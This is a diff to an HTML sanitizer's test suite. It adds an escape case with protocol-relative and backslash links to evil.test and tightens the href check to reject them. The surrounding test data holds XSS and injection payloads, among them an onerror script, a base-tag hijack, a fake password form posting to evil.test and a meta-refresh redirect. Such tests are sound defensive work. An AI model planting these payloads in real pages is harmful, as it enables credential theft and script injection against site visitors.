@@ -66,6 +66,7 @@ ESCAPES = {
     "style in svg": "<svg><style>h1{color:red}</style><foreignObject><div style='position:fixed'>x</div></svg>",
     "style in math": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>--></style></math>",
     "base": "<base href='https://evil.test/' target='_blank'><a href='x'>x</a>",
+    "host": "<a href='//evil.test/share'>x</a><a href='\\\\evil.test\\share'>x</a><a href=' /\t/evil.test'>x</a>",
     "form": "<form action='https://evil.test/'><input name=password autofocus><button>Log in</button></form>",
     "refresh": "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
     "link": "<link rel=stylesheet href='https://evil.test/x.css'><link rel=prefetch href='https://evil.test/x'>",
@@ -215,7 +216,7 @@ def look_over(shown: str) -> None:
                 case "src":
                     assert re.fullmatch(r"data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]+", value)
                 case "href":
-                    assert re.match(r"https?:|mailto:|[^:]*([/?#]|$)", value)
+                    assert re.match(r"https?:|mailto:|(?!\s*[/\\]\s*[/\\])[^:]*([/?#]|$)", value)
                 case "rel":
                     assert value == "noopener noreferrer"
                 case _:
